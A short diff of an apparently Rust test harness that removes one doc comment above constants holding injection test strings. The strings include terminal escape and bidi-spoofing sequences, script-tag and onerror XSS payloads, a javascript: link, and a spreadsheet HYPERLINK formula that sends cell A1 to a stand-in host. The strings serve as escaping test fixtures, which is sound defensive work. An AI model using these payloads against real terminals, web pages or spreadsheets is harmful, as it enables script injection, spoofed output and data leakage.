@@ -13,7 +13,6 @@ use crate::harness::Dir;
 const TERMINAL: &str = "a\x1b[2J\x1b]0;t\x07\u{9b}31m\u{202e}b\u{200f}\u{2028}c\r\nerror: fake\n::error::fake%0A\0\u{85}d\u{7f}";
 /// Ends scripts, comments, sections, attributes, cells, code spans, labels and frames.
 const MARKUP: &str = "</script><script>alert(1)</script>]]>--><img src=x onerror=alert(2)>\" onload=\"alert(3)' |`x`| [l](javascript:a) \"]; evil [label=\"x;y 7\\";
-/// A formula.
 const FORMULA: &str = "=HYPERLINK(\"http://x/\"&A1,\"y\")";
 const TEXTS: [&str; 3] = [TERMINAL, MARKUP, FORMULA];
 
